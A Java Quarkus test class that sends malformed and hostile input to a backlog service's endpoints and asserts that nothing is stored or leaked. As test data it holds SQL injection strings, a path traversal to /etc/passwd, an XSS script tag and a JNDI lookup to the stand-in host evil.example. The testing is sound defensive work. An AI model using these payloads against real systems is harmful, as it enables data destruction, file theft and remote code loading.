package io.entente.backlog;

import io.entente.platform.testing.BadInput.Case;
import io.entente.platform.testing.BadInputSweep;
import io.entente.platform.testing.TestTokens;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import jakarta.inject.Inject;
import jakarta.persistence.EntityManager;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

import static io.entente.platform.testing.BadInput.common;
import static io.entente.platform.testing.BadInput.field;
import static io.entente.platform.testing.BadInput.str;
import static io.entente.platform.testing.BadInput.strs;
import static io.entente.platform.testing.BadInput.with;
import static io.restassured.RestAssured.given;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** Bad input against every write of the backlog service; see {@link BadInputSweep}. */
@QuarkusTest
class BadInputTest extends BadInputSweep {

    static final String ALLIANCE = "B-BAD";
    static final String USER = "bad-input";
    static final String TOKEN = TestTokens.user(USER).roles("alliance-manager").alliances(ALLIANCE).sign();
    static final String[] INJECTIONS = strs("ONC-HELIX' OR '1'='1", "B-BAD; DROP TABLE backlog_item; --",
            "../../etc/passwd", "<script>alert(1)</script>", "${jndi:ldap://evil.example/a}", "B-BAD\u0000");

    static final String ITEM = """
            {"allianceId":"B-BAD","title":"Prepare JSC","description":"d","discipline":"GOVERNANCE","type":"TASK",
             "estimate":3,"beneficiary":"JSC","stakeholderValue":5,"owner":"alex","dueDate":"2026-12-15",
             "dependsOn":[]}""";
    static final String ALLIANCE_BODY = """
            {"key":"B-BAD-NEW","name":"New alliance","partner":"Partner Pharma","type":"LICENSING","tier":2,
             "phase":"EXECUTION","valueScore":3,"complexityScore":3,"allianceManager":"alex",
             "startDate":"2025-01-15","riskThreshold":12}""";
    static final String RISK = """
            {"allianceId":"B-BAD","title":"API supply","category":"SUPPLY","likelihood":3,"impact":3,"owner":"tara",
             "mitigation":"Second source","nextReviewDate":"2026-12-01"}""";
    static final String OBLIGATION = """
            {"allianceId":"B-BAD","title":"Annual report","clauseRef":"7.2","kind":"REPORT","owedBy":"US",
             "dueDate":"2027-03-31","recurrence":"ANNUAL","leadTimeDays":30}""";
    static final String ITEM_UPDATE = """
            {"title":"Prepare JSC","description":"d","discipline":"GOVERNANCE","type":"TASK","estimate":3,
             "beneficiary":null,"stakeholderValue":5,"owner":"alex","dueDate":"2026-12-15"}""";

    static String itemId;

    @Inject
    EntityManager em;

    @BeforeEach
    void portfolio() {
        Fixtures.alliances(ALLIANCE);
        if (itemId == null) {
            itemId = Fixtures.createItemId(TOKEN, ALLIANCE, "Target of bad updates");
        }
    }

    @Override
    protected String token() {
        return TOKEN;
    }

    @Override
    protected List<Case> cases() {
        List<Case> all = new ArrayList<>();
        String items = "/api/backlog-items";
        all.addAll(common("POST", items, ITEM, "title"));
        all.addAll(field("POST", items, ITEM, "title", null, "\"\"", "null", str("t".repeat(201))));
        all.addAll(field("POST", items, ITEM, "allianceId", null, "\"\"", "\"onc-helix\"", "\"NOPE-UNKNOWN\"",
                "17"));
        all.addAll(field("POST", items, ITEM, "allianceId", INJECTIONS));
        all.addAll(field("POST", items, ITEM, "discipline", null, "\"COOKING\"", "\"governance \"", "[]"));
        all.addAll(field("POST", items, ITEM, "type", null, "\"EPIC-ISH\"", "{}"));
        all.addAll(field("POST", items, ITEM, "estimate", "-1", "101", "\"three\"", "1e10", "[3]",
                "99999999999999999999"));
        all.addAll(field("POST", items, ITEM, "stakeholderValue", "0", "11", "\"high\""));
        all.addAll(field("POST", items, ITEM, "description", str("d".repeat(4001))));
        all.addAll(field("POST", items, ITEM, "owner", str("o".repeat(129))));
        all.addAll(field("POST", items, ITEM, "dueDate", "\"2026-02-30\"", "\"2026-13-01\"", "\"15/12/2026\"",
                "\"tomorrow\"", "\"+999999999-12-31\"", "\"2026-12-15T25:00:00\"", "\"\"", "{}"));
        all.addAll(field("POST", items, ITEM, "dependsOn", "\"not-a-list\"", "[\"not-a-uuid\"]", "[null]",
                "[\"00000000-0000-0000-0000-00000000dead\"]"));

        String alliances = "/api/alliances";
        all.addAll(common("POST", alliances, ALLIANCE_BODY, "name"));
        all.addAll(field("POST", alliances, ALLIANCE_BODY, "key", null, "\"x\"", "\"lower-case\"",
                str("K".repeat(40))));
        all.addAll(field("POST", alliances, ALLIANCE_BODY, "key", INJECTIONS));
        all.addAll(field("POST", alliances, ALLIANCE_BODY, "tier", "0", "4", "\"gold\"", null));
        all.addAll(field("POST", alliances, ALLIANCE_BODY, "valueScore", "0", "6"));
        all.addAll(field("POST", alliances, ALLIANCE_BODY, "riskThreshold", "0", "26"));
        all.addAll(field("POST", alliances, ALLIANCE_BODY, "phase", "\"DISSOLVED-ISH\"", null));
        all.addAll(field("POST", alliances, ALLIANCE_BODY, "startDate", "\"2025-02-29\"", "\"2025-01-15Z\""));

        String risks = "/api/risks";
        all.addAll(common("POST", risks, RISK, "title"));
        all.addAll(field("POST", risks, RISK, "likelihood", "0", "6", null, "\"likely\""));
        all.addAll(field("POST", risks, RISK, "impact", "0", "6", null));
        all.addAll(field("POST", risks, RISK, "category", "\"WEATHER\"", null));
        all.addAll(field("POST", risks, RISK, "nextReviewDate", "\"2026-11-31\"", "\"next week\""));
        all.addAll(field("POST", risks, RISK, "allianceId", INJECTIONS));

        String obligations = "/api/obligations";
        all.addAll(common("POST", obligations, OBLIGATION, "title"));
        all.addAll(field("POST", obligations, OBLIGATION, "leadTimeDays", "-1", "366", null, "\"a month\""));
        all.addAll(field("POST", obligations, OBLIGATION, "dueDate", null, "\"2027-02-29\"", "\"31.03.2027\""));
        all.addAll(field("POST", obligations, OBLIGATION, "kind", "\"BRIBE\"", null));
        all.addAll(field("POST", obligations, OBLIGATION, "clauseRef", str("c".repeat(65)), "\"\""));

        String update = "/api/backlog-items/{id}";
        all.addAll(common("PUT", update, ITEM_UPDATE, "title"));
        all.addAll(field("PUT", update, ITEM_UPDATE, "estimate", "-5", "1000"));
        all.addAll(field("PUT", update, ITEM_UPDATE, "status", "\"DONE\"", "\"SHIPPED\"", "\"DROPPED\""));
        all.addAll(field("PUT", update, ITEM_UPDATE, "allianceId", "\"ONC-HELIX\""));
        all.addAll(field("PUT", update, ITEM_UPDATE, "rank", "\"0\""));
        all.addAll(field("PUT", update, ITEM_UPDATE, "dueDate", "\"2026-04-31\""));
        all.add(new Case("rank with both neighbours", "POST", "/api/backlog-items/{id}/rank", "application/json",
                "{\"above\":\"00000000-0000-0000-0000-000000000001\","
                        + "\"below\":\"00000000-0000-0000-0000-000000000002\"}"));
        all.add(new Case("rank next to a non-uuid", "POST", "/api/backlog-items/{id}/rank", "application/json",
                "{\"above\":\"first\"}"));
        String csvHeader = "allianceId,title,discipline,type\r\n";
        all.add(new Case("import: empty file", "POST", "/api/backlog-items/import", "text/csv", ""));
        all.add(new Case("import: unknown column", "POST", "/api/backlog-items/import", "text/csv",
                "allianceId,title,discipline,type,password\r\nB-BAD,t,GOVERNANCE,TASK,x\r\n"));
        all.add(new Case("import: missing column", "POST", "/api/backlog-items/import", "text/csv",
                "allianceId,discipline,type\r\nB-BAD,GOVERNANCE,TASK\r\n"));
        all.add(new Case("import: unclosed quote", "POST", "/api/backlog-items/import", "text/csv",
                csvHeader + "B-BAD,\"open,GOVERNANCE,TASK\r\n"));
        all.add(new Case("import: bad rows", "POST", "/api/backlog-items/import", "text/csv",
                csvHeader + "B-BAD,ok,GOVERNANCE,TASK\r\nNOPE-UNKNOWN,t,GOVERNANCE,TASK\r\nB-BAD,,NOPE,TASK\r\n"));
        all.add(new Case("import: injection", "POST", "/api/backlog-items/import", "text/csv",
                csvHeader + "B-BAD; DROP TABLE backlog_item; --,t,GOVERNANCE,TASK\r\n"));
        all.add(new Case("import: JSON instead of CSV", "POST", "/api/backlog-items/import", "application/json",
                ITEM));
        all.add(new Case("import alliances: bad rows", "POST", "/api/alliances/import", "text/csv",
                "key,name,partner,type,tier,phase,valueScore,complexityScore,allianceManager\r\n"
                        + "B-BAD,Again,P,LICENSING,2,EXECUTION,3,3,alex\r\nb-bad-x,n,p,NOPE,9,EXECUTION,3,3,alex\r\n"));
        all.add(new Case("drop without reason", "POST", "/api/backlog-items/{id}/drop", "application/json", "{}"));
        return all;
    }

    @Override
    protected List<Long> stored() {
        return Stream.of("select count(*) from alliance",
                "select count(*) from backlog_item",
                "select count(*) from backlog_item_dependency",
                "select count(*) from risk",
                "select count(*) from obligation",
                "select count(*) from audit_log where actor = '" + USER + "'",
                "select count(*) from outbox_event where alliance_id = '" + ALLIANCE + "'",
                "select coalesce(max(version), 0) from backlog_item where alliance_id = '" + ALLIANCE + "'")
                .map(this::count).toList();
    }

    long count(String sql) {
        return ((Number) em.createNativeQuery(sql).getSingleResult()).longValue();
    }

    @Override
    protected Response send(Case c) {
        String path = c.path().replace("{id}", itemId);
        var request = given().auth().oauth2(TOKEN).contentType(c.contentType()).body(c.body());
        if (c.method().equals("PUT") || path.endsWith("/rank") || path.endsWith("/drop")) {
            request = request.header("If-Match", Fixtures.etag("/api/backlog-items/" + itemId, TOKEN));
        }
        return request.request(c.method(), path);
    }

    @Override
    protected List<String> badQueries() {
        return queries("/api/backlog-items", "limit=0", "limit=201", "limit=-1", "limit=abc", "limit=99999999999",
                "after=garbage", "after=%00", "sort=password", "sort=rank;drop%20table%20backlog_item",
                "dueBefore=2026-02-30", "dueBefore=yesterday", "status=SHIPPED",
                "allianceId=ONC-HELIX'%20OR%20'1'='1");
    }

    /** A filter value that matches nothing is a sensible empty answer, never another alliance's data. */
    @Override
    protected void assertHarmless(String query, Response ok) {
        List<String> seen = ok.path("items.allianceId");
        assertTrue(seen.stream().allMatch(ALLIANCE::equals), query + " leaked " + seen);
    }

    @Test
    void injectionLookingTextIsStoredVerbatimAndHarmless() {
        String title = "Robert'); DROP TABLE backlog_item;-- <script>alert(1)</script> ${jndi:x}";
        String id = given().auth().oauth2(TOKEN).contentType("application/json")
                .body(with(ITEM, "title", str(title))).post("/api/backlog-items").then().statusCode(201)
                .extract().path("id");
        assertEquals(title, given().auth().oauth2(TOKEN).get("/api/backlog-items/" + id).path("title"));
        given().auth().oauth2(TOKEN).queryParam("q", "'; DROP TABLE backlog_item;--").get("/api/backlog-items")
                .then().statusCode(200);
        assertTrue(count("select count(*) from backlog_item") > 0);
    }
}
